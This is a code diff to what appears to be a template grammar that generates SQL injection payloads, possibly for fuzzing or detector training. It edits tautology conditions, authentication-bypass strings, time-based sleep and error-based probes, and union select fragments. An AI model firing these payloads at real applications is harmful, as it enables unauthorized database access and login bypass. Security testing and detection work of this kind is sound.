@@ -14,7 +14,14 @@ start
     «before»«break»«_»«technique»«end»
     «before»«break»«_»«technique»«end»
     «before»«break»«_»«technique»«end»
+    «before»«break»«_»«technique»«end»
+    «before»«break»«_»«technique»«end»
+    «before»«break»«_»«technique»«end»
+    «before»«break»«_»«technique»«end»
+    «before»«break»«_»«technique»«end»
     «before»«break»«stacked»«end»
+    «before»«break»«stacked»«end»
+    «auth_bypass»
     «auth_bypass»
     «probe»
     «inline»
@@ -195,9 +202,7 @@ boolean
     or«_»«ident»«_»is«_»not«_»null
     or«_»«ident»«_»like«_»'%«lower:1»%'
     or«_»«ident»«_»in«_»(select«_»«ident»«source»)
-    div«_»«n»
-    |«n»
-    ^«n»
+    div«_»(«truth»)
     *(«truth»)
     rlike«_»(select«_»(case«_»when«_»(«truth»)«_»then«_»«n»«_»else«_»0x28«_»end))
     having«_»«truth»
@@ -346,8 +351,6 @@ auth_bypass
     "«_»or«_»""="
     '-'
     '^'«n»
-    '&'
-    '*'
     «who»')«_»or«_»('«lower:1»'='«lower:1»
     «who»'/*
     '«_»or«_»«ident»«_»like«_»'%«lower:1»%'«end»
@@ -366,12 +369,8 @@ probe
     «before»'«space»«upper:4»«space»«n»=«n»--
     «before»'«space»and«space»'«n»'='«n»
     «before»).«lower:4»,..''"
-    «n»'«n»"
-    «n»';'«n»
+    «n»';«n»"--
     «before»%27«_»or«_»«n»=«n»
-    «before»'||'«label»
-    «before»'+'«label»
-    «before»' '«label»
     «n»/**/«logic»/**/«truth»
     «n»-(select«_»«n»«_»where«_»«truth»)
     (select«_»concat(0x«hex:4»,(select«_»(elt(«digits:4»=«digits:4»,1))),0x«hex:4»))
@@ -391,7 +390,6 @@ inline
     "+«logic»+«truth»+"
     «ident»,(select«_»«n»«_»from«_»(select(sleep(«int:2-9»)))«lower:1»)
     {«label»«_»«n»}«_»union«_»select«_»«columns»
-    handler«_»«table»«_»open
     @@«label»«_»«boolean»
 """
 )
